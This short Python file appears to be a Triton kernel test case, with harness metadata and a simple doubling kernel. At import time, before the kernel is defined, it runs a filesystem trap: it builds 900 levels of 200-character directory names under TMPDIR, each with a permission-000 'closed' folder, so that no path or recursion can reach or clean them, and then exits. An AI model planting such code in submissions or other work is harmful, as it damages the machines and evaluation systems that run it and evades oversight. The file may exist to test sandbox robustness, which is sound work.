# Leaves folders so deep that no path reaches them and no recursion ends, each closed to everybody.
#
# entry: k
# grid: ceil(n/64)
# constants: BLOCK=64
# expect: compile_error
import os

import triton
import triton.language as tl

here = os.open(os.environ["TMPDIR"], os.O_RDONLY)
for _ in range(900):
    os.mkdir("d" * 200, 0o700, dir_fd=here)
    below = os.open("d" * 200, os.O_RDONLY, dir_fd=here)
    os.mkdir("closed", 0o000, dir_fd=here)
    os.close(here)
    here = below
raise SystemExit("they are there")


@triton.jit
def k(x, y, n, BLOCK: tl.constexpr):
    i = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(y + i, 2 * tl.load(x + i, mask=i < n), mask=i < n)
